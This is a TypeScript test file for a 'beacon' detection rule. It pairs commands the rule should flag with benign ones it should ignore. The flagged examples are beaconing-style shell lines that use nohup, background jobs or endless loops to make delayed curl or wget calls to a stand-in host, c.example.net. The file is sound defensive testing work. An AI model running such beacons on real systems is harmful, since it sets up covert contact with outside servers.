import { rule } from './beacon.ts';
import { describeRule } from '../../rule-examples.ts';

describeRule(rule, {
  fires: [
    'nohup bash -c \'sleep 60 && curl -s http://c.example.net/b\' &',
    'while true; do curl -s https://c.example.net/t; sleep 300; done',
    '(sleep 600; wget -q http://c.example.net/x) &',
  ],
  quiet: [
    'sleep 5 && curl -s https://app.example.net/health',
    '(sleep 5; curl localhost:3000) &',
    'npm run dev & sleep 3; curl http://localhost:5173',
  ],
});
